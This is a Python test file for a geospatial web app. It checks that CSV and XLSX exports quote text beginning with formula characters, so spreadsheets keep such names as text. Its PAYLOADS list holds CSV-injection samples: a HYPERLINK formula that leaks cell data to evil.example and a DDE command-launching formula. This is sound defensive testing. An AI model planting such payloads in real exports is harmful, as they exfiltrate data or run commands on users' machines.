"""Text a spreadsheet would run as a formula (it begins with =, +, -, @, a tab or a carriage
return) stays text in every spreadsheet geoapp writes — the public coverage tables (CSV and
XLSX), the suggested sites, the admin's and the command line's layer exports — while what is
stored, served as JSON and imported back is the text as it was."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from geoapp.data.export import FORMULA_STARTS
from tests.conftest import Auth, make_app, run_cli

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1", "=cmd|' /C calc'!A0",
            "-", "@", "'=already quoted", "a=b", "+86 0835"]


@pytest.fixture(scope="module")
def formula_app(tmp_path_factory):
    """An app whose township and zone names begin as formulas do."""
    from tests.conftest import copy_of_data
    folder = tmp_path_factory.mktemp("formulas")
    data = copy_of_data(folder)
    for layer, key in (("townships", "name_en"), ("zones", "name_en")):
        path = data / f"{layer}.geojson"
        collection = json.loads(path.read_text(encoding="utf-8"))
        for feature, payload in zip(collection["features"], PAYLOADS):
            feature["properties"][key] = payload
        path.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")
    app = make_app(data, folder / "instance")
    return app, data, folder


def csv_cells(text: str) -> list[str]:
    assert text.startswith("\ufeff"), "a byte-order mark, for Excel on Chinese Windows"
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def assert_no_formula(cells) -> None:
    runs = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert runs == [], f"cells a spreadsheet would run: {runs[:3]}"


def test_public_tables_keep_formula_text_as_text(formula_app):
    app, _data, _folder = formula_app
    client = app.test_client()
    for table in ("zones", "townships"):
        cells = csv_cells(client.get(f"/coverage/tables.csv?table={table}&lang=en").get_data(as_text=True))
        assert_no_formula(cells)
        assert "'" + PAYLOADS[0] in cells, "the text is all there, after the apostrophe"
    book = load_workbook(io.BytesIO(client.get("/coverage/tables.xlsx?lang=en").data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                seen.append(cell.value)
    assert PAYLOADS[0] in seen, "the workbook holds the text as it is, as text"
    names = {z["name_en"] for z in client.get("/api/summary").get_json()["zones"]}
    assert PAYLOADS[0] in names, "what is stored and served is unchanged"


def test_suggested_sites_keep_formula_text_as_text(formula_app):
    app, _data, _folder = formula_app
    text = app.test_client().get("/api/plan/candidates.csv?industry=pear&n=20&lang=en").get_data(as_text=True)
    assert_no_formula(csv_cells(text))


def test_layer_exports_keep_it_text_and_import_back_unchanged(formula_app, tmp_path):
    app, data, folder = formula_app
    client = Auth(app).client("keeper", "admin")
    admin_csv = client.get("/admin/data/export/townships/csv").get_data(as_text=True)
    assert_no_formula(csv_cells(admin_csv))
    env = {"GEOAPP_INSTANCE": str(folder / "instance"), "GEOAPP_DATA_DIR": str(data)}
    out = tmp_path / "townships.csv"
    assert run_cli(env, "export", "townships", str(out)).returncode == 0
    assert_no_formula(csv_cells(out.read_text(encoding="utf-8")))
    checked = run_cli(env, "import", "townships", str(out))
    assert checked.returncode == 0, checked.stderr
    reread = make_app(data, Path(env["GEOAPP_INSTANCE"])).test_client()
    served = {t["code"]: t["name_en"] for t in reread.get("/api/coverage?lang=en").get_json()["townships"]}
    written = json.loads((data / "townships.geojson").read_text(encoding="utf-8"))["features"]
    assert {f["properties"]["code"]: f["properties"]["name_en"] for f in written} == served, \
        "exported and imported back, every name is as it was (the one that began with an apostrophe too)"
